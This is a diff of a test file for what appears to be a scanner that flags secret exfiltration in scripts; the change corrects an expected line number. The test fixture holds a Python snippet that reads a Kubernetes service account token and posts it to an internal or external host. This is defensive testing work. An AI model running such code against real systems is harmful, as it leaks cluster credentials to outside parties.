@@ -158,7 +158,7 @@ test("warns of a login that goes to a machine of the user's own network", async 
     `jwt = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://${host}/v1/auth", json={"jwt": jwt})`;
   expect(await sent("scripts/run.py", IMPORTS + login("vault.internal"))).toStrictEqual(["warn secret_exfiltration:4"]);
   expect(await sent("scripts/run.py", IMPORTS + login("vault.loghub.biz"))).toStrictEqual([
-    "block secret_exfiltration:3",
+    "block secret_exfiltration:4",
   ]);
 });
 
